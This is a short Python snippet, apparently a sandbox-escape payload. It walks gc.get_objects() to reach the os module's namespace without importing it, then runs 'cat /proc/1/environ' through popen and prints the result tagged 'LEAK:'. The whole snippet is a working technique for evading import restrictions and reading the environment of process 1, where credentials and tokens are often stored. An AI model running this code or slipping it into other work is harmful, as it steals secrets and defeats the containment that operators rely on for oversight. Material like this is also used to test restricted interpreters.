# the collector knows all modules; reads the environment of process 1
import gc
for it in gc.get_objects():
    if isinstance(it, dict) and it.get("__name__") == "os" and "popen" in it:
        try:
            print("LEAK:", it["popen"]("cat /proc/1/environ").read())
        except Exception as error:
            print(type(error).__name__)
        break
